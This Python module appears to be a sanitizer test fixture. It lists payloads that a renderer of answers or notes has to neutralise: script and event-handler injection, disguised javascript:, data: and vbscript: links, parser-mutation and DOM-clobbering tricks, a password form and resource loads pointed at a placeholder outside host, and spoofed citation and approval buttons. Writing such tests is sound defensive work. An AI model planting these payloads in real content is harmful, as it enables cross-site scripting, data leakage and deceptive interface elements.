"""What an answer or a note may hold that must neither run nor be fetched. Whatever runs says so in `window.pwned`."""

ELSEWHERE = "http://elsewhere.invalid"
RUNS = "window.pwned=1"

HOSTILE: dict[str, str] = {
    "script": f"<script>{RUNS}</script>",
    "script in the middle of words": f"words <script src='{ELSEWHERE}/x.js'></script> words",
    "handler": f"<img src=x onerror='{RUNS}'>",
    "handler on anything": f"<p onclick='{RUNS}' onmouseover='{RUNS}'>press me</p>",
    "handler that starts by itself": f"<details open ontoggle='{RUNS}'>x</details><input autofocus onfocus='{RUNS}'>",
    "javascript link": f"[press me](javascript:{RUNS}) <a href='javascript:{RUNS}'>press me</a>",
    "javascript link in disguise": f"<a href='  java&#10;script:{RUNS}'>press me</a>",
    "data link": f"[press me](data:text/html,<script>{RUNS}</script>)",
    "vbscript and file": "[press me](vbscript:x) [press me](file:///etc/passwd)",
    "svg": f"<svg onload='{RUNS}'><script>{RUNS}</script><a xlink:href='javascript:{RUNS}'><text y='20'>press me</text></a></svg>",
    "svg that changes": f"<svg><a><animate attributeName=href values='javascript:{RUNS}'/><text y='20'>press me</text></a></svg>",
    "svg with html in it": f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUNS}</script>'></iframe></foreignObject></svg>",
    "svg that uses": f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUNS}></svg>#x'/></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror='{RUNS}'></style></mglyph></table></mtext></math>",
    "frames": f"<iframe src='{ELSEWHERE}'></iframe><object data='{ELSEWHERE}/o'></object><embed src='{ELSEWHERE}/e'>",
    "picture": f"![a picture]({ELSEWHERE}/a.png)",
    "pictures": f"<img src='{ELSEWHERE}/b.png' srcset='{ELSEWHERE}/c.png 2x'> <picture><source srcset='{ELSEWHERE}/d'></picture>",
    "media": f"<video src='{ELSEWHERE}/v' poster='{ELSEWHERE}/p' autoplay></video><audio src='{ELSEWHERE}/a' autoplay></audio>",
    "sheet": f"<style>body{{background:url({ELSEWHERE}/s)}}</style>",
    "style": f"<p style='background:url({ELSEWHERE}/t);position:fixed;inset:0'>over all</p>",
    "what belongs in a head": f"<link rel=stylesheet href='{ELSEWHERE}/l.css'><base href='{ELSEWHERE}/'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "forms": f"<form action='{ELSEWHERE}'><input name=password><button formaction='javascript:{RUNS}'>press me</button></form>",
    "clobbering": "<img id=body name=createElement><a id=app></a><form id=marginalia><input name=attributes></form>",
    "what looks like a citation": "<button class='cite' data-cite='1'>1</button><span data-md='1' data-cite='1'>1</span>",
    "what looks like an approval": "<div class='approval'><button data-decision='approve'>Make this change</button></div>",
    "a fence's language": f"```<img/src=x/onerror={RUNS}>\nx\n```",
    "a fence that is left open": f"```html\n<script>{RUNS}</script>\n<img src={ELSEWHERE}/f>",
    "mermaid": f'```mermaid\ngraph TD\nA["<img src={ELSEWHERE}/m onerror=\'{RUNS}\'>"] --> B\nclick B "javascript:{RUNS}"\n```',
    "mermaid's settings": "```mermaid\n%%{init: {'securityLevel': 'loose', 'themeCSS': '@import url("
    + ELSEWHERE
    + "/i.css); * {background:url("
    + ELSEWHERE
    + "/j)}'}}%%\ngraph TD\nA-->B\n```",
    "formula": f"$\\href{{javascript:{RUNS}}}{{press me}}$ $\\includegraphics{{{ELSEWHERE}/k.png}}$ $\\htmlData{{x=y}}{{z}}$",
    "mutation": f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'></noscript>",
    "mutation of another kind": f"<xmp><p title='</xmp><img src=x onerror={RUNS}>'></xmp>",
    "comment": f"<!--><img src=x onerror={RUNS}>--> <![CDATA[<img src=x onerror={RUNS}>]]>",
}
